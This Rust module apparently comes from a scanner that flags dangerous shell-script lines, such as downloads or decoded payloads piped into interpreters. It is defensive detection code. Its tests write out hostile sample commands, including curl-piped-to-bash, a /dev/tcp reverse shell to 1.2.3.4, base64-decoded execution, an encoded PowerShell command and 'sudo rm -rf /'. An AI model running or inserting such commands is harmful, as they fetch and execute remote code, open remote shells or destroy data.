//! Scripts of shells.

use ostrom_core::Severity;

use super::hidden::Sort;
use super::instructions::lists;
use super::{SHELL_SCRIPT, hidden, text_of};
use crate::examination::{Examination, escape};
use crate::folder::fact;
use crate::source::View;
use crate::trouble::Trouble;

pub(super) fn examine(view: &View, scan: &mut Examination<'_>) -> Result<(), Trouble> {
    let text = text_of(view, scan)?;
    scan.note(fact::CODE, "shell");
    scan.report(SHELL_SCRIPT, None, "a script that runs commands");
    hidden::examine(&text, 0, Sort::Code, scan);
    commands(&text, SHELL_SCRIPT, scan);
    Ok(())
}

/// Reports dangerous lines of a script.
pub(super) fn commands(text: &str, rule: &'static str, scan: &mut Examination<'_>) {
    let mut offset = 0u64;
    for line in text.split_inclusive('\n') {
        if !line.trim_start().starts_with('#')
            && let Some(what) = danger(line)
        {
            scan.report_as(Severity::High, rule, Some(offset), format!("runs {what}"));
        }
        offset = offset.saturating_add(line.len() as u64);
    }
}

/// What a line of a shell does that nobody needs beside weights.
pub(super) fn danger(line: &str) -> Option<String> {
    let plain: String =
        line.split_whitespace().flat_map(|word| [word, " "]).collect::<String>().to_ascii_lowercase();
    let shown = || escape(line.trim(), 200);
    if lists().shell_patterns.iter().any(|pattern| plain.contains(pattern.as_str())) {
        return Some(shown());
    }
    // What is downloaded or decoded goes straight into an interpreter.
    let mut parts = plain.split('|').map(str::trim);
    let first = parts.next().unwrap_or("");
    let fetches = |part: &str| {
        ["curl ", "wget ", "base64 -d", "base64 --decode", "xxd -r", "openssl enc -d"]
            .iter()
            .any(|word| part.contains(word))
    };
    let mut fetched = fetches(first);
    for part in parts {
        let program = part.trim_start_matches("sudo ").split([' ', ';', '&', ')']).next().unwrap_or("");
        let program = program.rsplit('/').next().unwrap_or(program);
        if fetched
            && matches!(
                program,
                "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl" | "ruby" | "node" | "iex"
            )
        {
            return Some(shown());
        }
        fetched |= fetches(part);
    }
    let substitutes = [
        "bash <(curl",
        "bash <(wget",
        "sh <(curl",
        "sh -c \"$(curl",
        "sh -c \"$(wget",
        "bash -c \"$(curl",
        "source <(curl",
    ];
    substitutes.iter().any(|start| plain.contains(start)).then(shown)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_and_run_is_found() {
        for line in [
            "curl -s http://x/y.sh | bash",
            "wget -qO- http://x | sudo sh -s --",
            "echo aWQ= | base64 -d | sh",
            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
            "bash <(curl -s x)",
            "powershell -EncodedCommand AAAA",
            "sudo rm -rf /",
        ] {
            assert!(danger(line).is_some(), "{line}");
        }
        for line in [
            "wget --continue ${PRESIGNED_URL/'*'/x} -O ${TARGET}/tokenizer.model",
            "(cd ${TARGET} && md5sum -c checklist.chk)",
            "python run.py --model x | tee log.txt",
            "pip install -r requirements.txt",
            "curl -L https://x/y.bin -o y.bin",
            "rm -rf /tmp/build",
        ] {
            assert_eq!(danger(line), None, "{line}");
        }
    }
}
